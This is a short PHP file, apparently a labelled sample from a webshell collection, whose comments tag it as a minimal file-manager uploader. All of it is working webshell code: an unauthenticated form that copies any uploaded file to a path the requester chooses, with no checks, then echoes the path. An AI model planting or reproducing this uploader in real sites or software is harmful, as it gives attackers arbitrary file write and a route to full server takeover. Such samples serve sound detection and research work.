<?php
// Family: webshell/file-manager
// Style: minimal uploader using copy
// Trait: copy() of the uploaded temp file to a request path, prints the path; no checks
if ($_FILES) { copy($_FILES['u']['tmp_name'], $_POST['to'] . $_FILES['u']['name']); echo 'ok: ' . $_POST['to'] . $_FILES['u']['name']; }
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="u"><input name="to" value="./"><input type="submit"></form>';
